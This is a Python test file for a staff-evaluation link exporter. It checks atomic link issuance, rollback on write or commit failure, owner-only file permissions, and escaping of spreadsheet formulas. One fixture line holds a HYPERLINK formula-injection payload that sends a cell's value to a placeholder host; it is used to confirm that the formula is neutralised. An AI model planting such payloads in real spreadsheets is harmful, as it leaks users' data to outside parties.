"""Issuing links with an export is all-or-nothing: new links are committed only together with a written file,
so a failed export never revokes the links already sent; the file is safe to open and owner-only."""

from __future__ import annotations

import contextlib
import csv
import sqlite3
import stat

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from kinerja_lib import links
from kinerja_lib.cli import main
from kinerja_lib.errors import OutputError
from kinerja_lib.store import open_db, write_transaction

BASE = "https://nilai.example.go.id/kinerja"
HOSTILE = '=HYPERLINK("https://contoh.invalid/?d="&D2,"Klik")'


def state(path) -> list[str]:
    db = open_db(path)
    try:
        return list(db.conn.iterdump())
    finally:
        db.close()


def cli(path, *args):
    return CliRunner().invoke(main, ["--db", str(path), *map(str, args)])


@pytest.fixture
def sent(small_org_path, tmp_path):
    """The tiny organisation with links already issued and exported once: (db path, first tokens by NIP)."""
    db = open_db(small_org_path)
    first = {i.nip: i.token for i in links.issue_links(db, 1, base_url=BASE, out=tmp_path / "tautan-1.xlsx")}
    db.close()
    return small_org_path, first


def still_valid(path, tokens) -> bool:
    db = open_db(path)
    try:
        return all(links.resolve(db, t).rater_nip == nip for nip, t in tokens.items())
    finally:
        db.close()


@pytest.mark.parametrize("out, fragment", [
    ("tautan.xls", "ekstensi '.xls' tidak dikenal; gunakan .xlsx atau .csv"),
    ("tidak-ada/tautan.xlsx", "folder"),
    ("tautan", "tanpa ekstensi"),
])
def test_a_bad_output_path_changes_nothing(sent, tmp_path, out, fragment):
    """`kinerja links --semua --out` with a typo exits 2 before issuing: the links already sent still work."""
    path, first = sent
    before = state(path)
    result = cli(path, "links", "--semua", "--out", tmp_path / out, "--base-url", BASE)
    assert result.exit_code == 2 and fragment in result.stderr, result.output
    assert state(path) == before
    assert still_valid(path, first)
    assert not (tmp_path / out).exists()


def test_an_export_that_fails_while_writing_commits_no_link(sent, tmp_path, monkeypatch):
    """A write error (disk full) during the export rolls the new links back; no file is left."""
    path, first = sent
    before = state(path)

    def disk_full(*args, **kwargs):
        raise OutputError("berkas 'tautan.xlsx' tidak dapat ditulis: No space left on device")

    monkeypatch.setattr(links, "write_xlsx", disk_full)
    result = cli(path, "links", "--semua", "--out", tmp_path / "tautan.xlsx", "--base-url", BASE)
    assert result.exit_code == 2 and "No space left on device" in result.stderr
    assert state(path) == before and still_valid(path, first)
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("org.db")) == ["tautan-1.xlsx"]


def test_a_commit_that_fails_takes_the_file_back(sent, tmp_path, monkeypatch):
    """When the transaction fails after the file was put in place, the previous file returns and nothing commits."""
    path, first = sent
    target = tmp_path / "tautan-1.xlsx"
    previous = target.read_bytes()
    before = state(path)

    @contextlib.contextmanager
    def commit_fails(db):
        with write_transaction(db):
            yield db
            raise sqlite3.OperationalError("disk I/O error")  # what a failing COMMIT raises

    monkeypatch.setattr(links, "write_transaction", commit_fails)
    db = open_db(path)
    with pytest.raises(sqlite3.OperationalError):
        links.issue_links(db, 1, base_url=BASE, out=target)
    db.close()
    assert target.read_bytes() == previous
    assert state(path) == before and still_valid(path, first)
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("org.db")) == ["tautan-1.xlsx"]


def test_new_links_and_their_file_arrive_together(sent, tmp_path):
    """A successful full reissue (--semua) replaces the old links: the file holds the only valid tokens."""
    path, first = sent
    out = tmp_path / "tautan-2.csv"
    result = cli(path, "links", "--semua", "--out", out, "--base-url", BASE)
    assert result.exit_code == 0, result.output
    assert "5 tautan" in result.stdout
    db = open_db(path)
    with pytest.raises(links.AccessDenied):
        links.resolve(db, next(iter(first.values())))
    with open(out, encoding="utf-8-sig", newline="") as fh:
        tokens = [row["Tautan"].rsplit("?t=", 1)[1] for row in csv.DictReader(fh)]
    assert len(tokens) == 5 and all(links.resolve(db, t) for t in tokens)
    db.close()


def test_a_name_that_is_a_formula_stays_text_in_the_links_workbook(small_org, tmp_path):
    """A roster name like =HYPERLINK(...) is a string cell with a leading apostrophe, never a live formula."""
    small_org.db.execute("UPDATE pegawai SET nama = ? WHERE nip = ?", [HOSTILE, small_org.nip["dewi"]])
    out = tmp_path / "tautan.xlsx"
    links.issue_links(small_org.db, small_org.cycle.id, base_url=BASE, out=out)
    ws = load_workbook(out)["Tautan"]
    cells = {row[1].value: row[0] for row in ws.iter_rows(min_row=2)}
    name = cells[small_org.nip["dewi"]]
    assert (name.value, name.data_type) == ("'" + HOSTILE, "s")
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert load_workbook(out)["Pengaturan"]["B2"].value == "Tahunan 2026"


def test_the_links_file_is_readable_by_its_owner_only(small_org, tmp_path):
    """Links are credentials: the export is created 0600."""
    out = tmp_path / "tautan.csv"
    links.issue_links(small_org.db, small_org.cycle.id, base_url=BASE, out=out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
